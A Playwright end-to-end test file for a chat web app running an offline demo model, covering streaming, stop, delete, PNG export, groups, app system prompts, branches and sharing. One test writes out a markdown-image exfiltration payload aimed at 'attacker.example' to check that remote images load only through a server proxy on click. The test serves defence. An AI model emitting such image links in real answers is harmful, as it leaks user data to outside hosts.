import fs from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { api, BASE_URL, registerUser, signInBeforeLoad } from '../support/index.js';

/**
 * The chat screen against the offline demo model: a streamed answer grows on screen, stop
 * keeps what came, a message is deleted, the chat exports as a real PNG, groups switch with
 * their own messages, and a chat started from an app shows the fixed-role hint while the
 * server answers with the app's system prompt.
 */

interface Log {
  id: number;
  role: 'user' | 'assistant';
  content: string;
  status: string;
  appId: number | null;
}
interface Group {
  id: number;
  title: string;
  appId: number | null;
}

/** Signed in as `token`, in English, the page opens `path`. */
async function open(page: Page, token: string, path: string) {
  await signInBeforeLoad(page, token);
  await page.goto(path);
}

/** Records every length the streaming answer's text takes on screen. */
async function watchStream(page: Page) {
  await page.evaluate(() => {
    const w = window as unknown as { streamLengths: number[] };
    w.streamLengths = [];
    new MutationObserver(() => {
      const el = document.querySelector('[data-state="streaming"] [data-testid="chat-answer"]');
      const n = el?.textContent?.length ?? 0;
      if (n > 0 && w.streamLengths.at(-1) !== n) w.streamLengths.push(n);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  return () =>
    page.evaluate(() => (window as unknown as { streamLengths: number[] }).streamLengths);
}

/** Width and height from a PNG's IHDR chunk. */
function pngSize(bytes: Buffer) {
  return { width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20) };
}

test('stream, stop, delete, export as PNG and switch groups', async ({ page, request }) => {
  // Under a minute on an idle machine; a loaded two-core CI box needs the margin.
  test.setTimeout(300_000);
  const user = await registerUser(request, 'ch');
  const logsOf = (groupId: number) =>
    api<{ rows: Log[] }>(request, 'GET', `/chatlog/chatList?groupId=${groupId}`, {
      token: user.token,
    }).then((d) => d.rows);
  const groups = () =>
    api<{ rows: Group[] }>(request, 'GET', '/group/query', { token: user.token }).then(
      (d) => d.rows,
    );

  await open(page, user.token, '/Chat');
  await expect(page.getByTestId('chat-empty')).toBeVisible({ timeout: 20_000 });
  await expect(page.getByText('Model: Offline demo')).toBeVisible();

  // 1. The answer streams: while it is still streaming its text is seen at two lengths or more
  // (a loaded machine paints fewer of the pieces), then it is complete.
  const input = page.getByTestId('chat-input');
  const lengths = await watchStream(page);
  await input.fill('First question about tables');
  await input.press('Enter');
  const answers = page.locator('[data-testid="chat-message"][data-role="assistant"]');
  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
  await expect(answers.last()).toContainText('A formula');
  await expect(answers.last().locator('.katex').first()).toBeVisible();
  const seen = await lengths();
  expect(seen.length, `lengths seen: ${seen.join(', ')}`).toBeGreaterThanOrEqual(2);
  // Rendered text may shrink a little when markdown settles (a table's pipes go), but it grows.
  expect(seen.at(-1)!).toBeGreaterThan(seen[0]!);
  const [first] = await groups();
  expect(first!.title).toContain('First question');
  await expect(page.getByTestId('chat-group')).toHaveCount(1);

  // 2. Stop mid-stream: the answer stays as far as it got and is saved as partial.
  // The demo streams fast, so the page presses stop the moment the first words show.
  await input.fill('Second question, to be stopped');
  const stopPressed = page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        const observer = new MutationObserver(() => {
          const text = document.querySelector(
            '[data-state="streaming"] [data-testid="chat-answer"]',
          )?.textContent;
          const stop = document.querySelector<HTMLButtonElement>('[data-testid="chat-stop"]');
          if (!text || !stop) return;
          observer.disconnect();
          stop.click();
          resolve(text.length);
        });
        observer.observe(document.body, { subtree: true, childList: true, characterData: true });
      }),
  );
  await input.press('Enter');
  expect(await stopPressed).toBeGreaterThan(0);
  await expect(page.getByTestId('chat-send')).toBeVisible();
  await expect(answers.last()).toHaveAttribute('data-state', 'partial');
  await expect(answers.last()).toContainText('Stopped');
  const shown = (await answers.last().getByTestId('chat-answer').textContent()) ?? '';
  await expect
    .poll(async () => (await logsOf(first!.id)).at(-1))
    .toMatchObject({ role: 'assistant', status: 'partial' });
  const stopped = (await logsOf(first!.id)).at(-1)!;
  expect(stopped.content).not.toContain('A formula');
  expect(shown.length).toBeGreaterThan(0);
  await expect(page.getByTestId('chat-message')).toHaveCount(4);

  // 3. Delete a message (the stopped answer), with the spec's confirmation.
  await answers.last().hover();
  await answers.last().getByRole('button', { name: 'Delete' }).click();
  await expect(page.getByText('Delete this message?')).toBeVisible();
  await page.getByRole('tooltip').getByRole('button', { name: 'Delete' }).click();
  await expect(page.getByTestId('chat-message')).toHaveCount(3);
  expect((await logsOf(first!.id)).map((l) => l.id)).not.toContain(stopped.id);

  // 4. Export as PNG behind its confirmation: a real PNG of a sane size downloads.
  await page.getByRole('button', { name: 'Export as image' }).click();
  const ask = page.getByRole('dialog', { name: 'Export this chat to PNG?' });
  await expect(ask).toBeVisible();
  const download = page.waitForEvent('download', { timeout: 30_000 });
  await ask.getByRole('button', { name: 'OK' }).click();
  const file = await (await download).path();
  const bytes = fs.readFileSync(file);
  expect([...bytes.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const size = pngSize(bytes);
  expect(size.width).toBeGreaterThanOrEqual(800);
  expect(size.width).toBeLessThanOrEqual(4000);
  expect(size.height).toBeGreaterThan(300);
  expect(size.height).toBeLessThanOrEqual(32_000);

  // 5. A new chat is empty and active; each group shows its own messages.
  await page.getByRole('button', { name: 'New chat' }).first().click();
  await expect(page.getByTestId('chat-empty')).toBeVisible();
  await input.fill('Other topic entirely');
  await input.press('Enter');
  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
  await expect(page.getByTestId('chat-group')).toHaveCount(2);
  const messages = page.getByTestId('chat-messages');
  await expect(messages).toContainText('Other topic entirely');
  await expect(messages).not.toContainText('First question about tables');

  await page.getByTestId('chat-group').filter({ hasText: 'First question' }).click();
  await expect(messages).toContainText('First question about tables');
  await expect(messages).not.toContainText('Other topic entirely');
  await expect(page.getByTestId('chat-message')).toHaveCount(3);

  await page.getByTestId('chat-group').filter({ hasText: 'Other topic' }).click();
  await expect(messages).toContainText('Other topic entirely');
  await expect(page.getByTestId('chat-message')).toHaveCount(2);
});

test('a chat from an app: fixed-role hint, and the app’s system prompt is used', async ({
  page,
  request,
}) => {
  test.setTimeout(180_000);
  const user = await registerUser(request, 'ca');
  const res = await request.get(`${BASE_URL}/api/app/list?keyword=translator`, {
    headers: { authorization: `Bearer ${user.token}`, 'x-lang': 'en-US' },
  });
  const list = (await res.json()) as {
    data: { rows: { id: number; name: string; systemPrompt: string }[] };
  };
  const app = list.data.rows.find((a) => a.name === 'Translator')!;

  await open(page, user.token, `/Chat?appId=${app.id}`);
  await expect(page.getByTestId('chat-role')).toHaveText(/Role: Translator \(fixed\)/, {
    timeout: 20_000,
  });
  const input = page.getByTestId('chat-input');
  // An invitation naming the app, and the chat is named after it too.
  await expect(input).toHaveAttribute(
    'placeholder',
    'Ask Translator anything… (Enter to send, / for prompts)',
  );
  await expect(page.getByTestId('chat-title')).toHaveText('Translator');
  // No way to change the system prompt for this group.
  await expect(page.getByRole('button', { name: 'System prompt' })).toHaveCount(0);

  const sent = page.waitForRequest('**/api/chatgpt/chat-process');
  await input.fill('Bonjour tout le monde');
  await input.press('Enter');
  const body = (await sent).postDataJSON() as { appId: number; systemMessage?: string };
  expect(body.appId).toBe(app.id);
  expect(body.systemMessage).toBeUndefined();

  const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]').last();
  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
  await expect(answer).toContainText('Persona in use: Translator');
  await expect(answer).toContainText(app.systemPrompt.slice(0, 30));

  const groups = await api<{ rows: Group[] }>(request, 'GET', '/group/query', {
    token: user.token,
  });
  expect(groups.rows).toHaveLength(1);
  expect(groups.rows[0]!.appId).toBe(app.id);
  expect(groups.rows[0]!.title).toBe('Translator');

  // Opening the same app again uses its group instead of making another.
  await page.goto(`/Chat?appId=${app.id}`);
  await expect(page.getByTestId('chat-messages')).toContainText('Bonjour tout le monde');
  const again = await api<{ rows: Group[] }>(request, 'GET', '/group/query', {
    token: user.token,
  });
  expect(again.rows).toHaveLength(1);
});

test('a picture of another site in an answer loads only on a click, through the server', async ({
  page,
  request,
}) => {
  const user = await registerUser(request, 'pic');
  // Anything the browser asks of that site itself (the proxy's own address names it too).
  const direct: string[] = [];
  page.on('request', (r) => {
    if (new URL(r.url()).hostname === 'attacker.example') direct.push(r.url());
  });
  await open(page, user.token, '/Chat');
  const input = page.getByTestId('chat-input');
  // The demo answer repeats the question, so it carries the picture back.
  await input.fill('![leak](https://attacker.example/x.png?data=secret)');
  await input.press('Enter');
  const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]').last();
  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
  const button = answer.getByTestId('remote-image');
  await expect(button).toContainText('Show the picture from attacker.example');
  await expect(answer.locator('img')).toHaveCount(0);

  const proxied = page.waitForRequest('**/api/proxy/image?**');
  await button.click();
  expect(new URL((await proxied).url()).searchParams.get('url')).toBe(
    'https://attacker.example/x.png?data=secret',
  );
  // The test machine reaches no such site: the proxy says so, and the page stays whole.
  await expect(button).toContainText('cannot be shown');
  expect(direct).toEqual([]);
});

test('edit a question, switch between its branches, and share the chat signed out', async ({
  page,
  browser,
  request,
}) => {
  test.setTimeout(180_000);
  const user = await registerUser(request, 'br');
  await open(page, user.token, '/Chat');
  const input = page.getByTestId('chat-input');
  await input.fill('Tell me about owls');
  await input.press('Enter');
  const question = page.locator('[data-testid="chat-message"][data-role="user"]');
  const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]');
  await expect(answer.last()).toHaveAttribute('data-state', 'done', { timeout: 20_000 });

  // Edit the question and send it again: the first answer stays as a branch, 1/2 and 2/2.
  await question.first().hover();
  await question.first().getByRole('button', { name: 'Edit' }).click();
  await page.getByRole('textbox', { name: 'Edit the question' }).fill('Tell me about ravens');
  await question.first().getByRole('button', { name: 'Send' }).click();
  await expect(answer.last()).toHaveAttribute('data-state', 'done', { timeout: 20_000 });
  await expect(question).toHaveCount(1);
  await expect(question.first()).toContainText('Tell me about ravens');
  const labels = page.getByTestId('chat-branch-label');
  // On the question and on its answer.
  await expect(labels).toHaveText(['2/2', '2/2']);

  await question.first().hover();
  await question.first().getByRole('button', { name: 'Previous branch' }).click();
  await expect(question.first()).toContainText('Tell me about owls');
  await expect(labels).toHaveText(['1/2', '1/2']);

  // Share the branch on screen, and open the link signed out.
  await page.getByRole('button', { name: 'Share' }).click();
  await page.getByRole('button', { name: 'Create a link' }).click();
  const link = await page.getByTestId('chat-share-link').inputValue();
  expect(link).toMatch(/\/c\/[A-Za-z0-9_-]{24}$/);
  await expect(page.getByTestId('chat-share-list')).toContainText('Tell me about owls');

  const visitor = await browser.newContext();
  try {
    const shared = await visitor.newPage();
    const scripts: string[] = [];
    shared.on('request', (r) => {
      if (r.resourceType() === 'script') scripts.push(r.url());
    });
    const res = await shared.goto(link);
    expect(res?.status()).toBe(200);
    await expect(shared.locator('h1')).toHaveText('Tell me about owls');
    await expect(shared.locator('[data-role="user"]')).toHaveText(['Tell me about owls']);
    await expect(shared.locator('body')).not.toContainText('ravens');
    await expect(shared.locator('meta[property="og:title"]')).toHaveAttribute(
      'content',
      'Tell me about owls',
    );
    // A light page: no script at all, so no chat bundle.
    expect(scripts).toEqual([]);
  } finally {
    await visitor.close();
  }
});
